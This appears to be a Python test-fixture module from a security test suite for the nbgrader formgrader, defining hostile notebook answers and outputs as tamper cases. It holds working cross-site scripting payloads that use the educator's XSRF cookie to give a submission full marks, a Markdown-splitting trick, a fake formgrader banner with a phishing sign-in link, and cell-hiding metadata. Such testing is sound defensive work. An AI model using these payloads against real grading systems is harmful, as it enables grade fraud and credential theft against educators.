"""Written answers and outputs that carry script for the educator's browser: each form a page can run
script in (``HOSTILE_ANSWER``, ``HOSTILE_OUTPUTS``), Markdown that would split if cleaned HTML were
parsed again, markup dressed as formgrader's controls, and cell metadata that hides a cell. The script
they carry is ``runs_as_the_educator``: it marks the page it ran in and, in formgrader's grading page,
would give the submission full marks. The tamper cases hand them in (``tampers.TAMPERS``).
"""

from __future__ import annotations


def runs_as_the_educator(kind: str) -> str:
    """JavaScript that marks the page it ran in (``top.lucyRan`` lists each ``kind``) and, in
    formgrader's grading page, gives every cell of the submission full marks through formgrader's
    own API. Single quotes only, so it also fits in an HTML attribute; its value is undefined, so as a
    ``javascript:`` link it leaves the page in place."""
    return ("top.lucyRan=(top.lucyRan||[]).concat(['" + kind + "']);"
            "var m=top.location.pathname.match(/submissions[/]([^/]+)/);"
            "var x=(top.document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
            "if(m)fetch('/formgrader/api/grades?submission_id='+m[1]).then(function(r){return r.json()})"
            ".then(function(gs){gs.forEach(function(g){fetch('/formgrader/api/grade/'+g.id,{method:'PUT',"
            "headers:{'X-XSRFToken':x},body:JSON.stringify({manual_score:g.max_score})})})});void 0;")


HOSTILE_ANSWER = f"""The worker's row stays running: nothing replays it.

<script>{runs_as_the_educator("script")}</script>

<img src="no-such-image" onerror="{runs_as_the_educator("img-onerror")}">

<svg onload="{runs_as_the_educator("svg-onload")}"><script>{runs_as_the_educator("svg-script")}</script></svg>

<iframe srcdoc="<script>{runs_as_the_educator("iframe-srcdoc")}</script>"></iframe>

<details open ontoggle="{runs_as_the_educator("details-ontoggle")}"><summary>more</summary>and more</details>

<a id="lucy-html-link" href="javascript:{runs_as_the_educator("html-link")}">a link to click</a>

[a Markdown link to click](javascript:void(top.lucyRan=(top.lucyRan||[]).concat('markdown-link')))
"""
"""A written answer with script in each form a page can run it: shown as it is, it would save scores."""

HOSTILE_OUTPUTS = f'''
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("""<script>{runs_as_the_educator("html-output")}</script><b>an HTML output</b>"""))
display(Javascript("""{runs_as_the_educator("javascript-output")}"""))
display(SVG("""<svg xmlns="http://www.w3.org/2000/svg"><script>{runs_as_the_educator("svg-output")}</script></svg>"""))
display(Markdown("""<img src="no-such-image" onerror="{runs_as_the_educator("markdown-output")}">"""))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2, "version_minor": 0}},
         "text/plain": "a widget"}}, raw=True)
'''

SPLIT_AFTER_CLEANING = f"""The worker's row stays running: nothing replays it. What I ran:

```
select state from jobs
\x0c
![tracker](https://tracker.example/pixel.png)
[the proof](javascript:{runs_as_the_educator("split-link")})
```
"""
"""A written answer whose code block holds a form-feed line: blank to Markdown, not to an HTML block's rule.
Cleaned HTML stored for Markdown to parse again would end there and show the rest as an image from any
address and a link."""

FAKE_CONTROLS = """The worker's row stays running: nothing replays it.

<div class="navbar navbar-fixed-top alert alert-success" id="statusmessage"
     style="position: fixed; top: 0; left: 0; width: 100%; z-index: 99999">Full credit saved for every cell.
<a class="btn btn-primary" href="https://grades.example/sign-in">Sign in again</a></div>
<span class="pull-right btn btn-success full-credit" style="position: fixed; top: 8px; right: 40px">Next &rarr;</span>
"""
"""A written answer dressed as formgrader: a fixed bar and a "full credit saved" banner over the real one,
and a fake *Next* where formgrader's sits, leading elsewhere."""

HIDDEN = (("transient", {"remove_source": True}), ("jupyter", {"source_hidden": True, "outputs_hidden": True}),
          ("tags", ["remove_cell", "remove_input", "hide-input"]))
"""Cell metadata that notebook viewers and nbconvert honour to leave a cell (or its code) out of a page."""
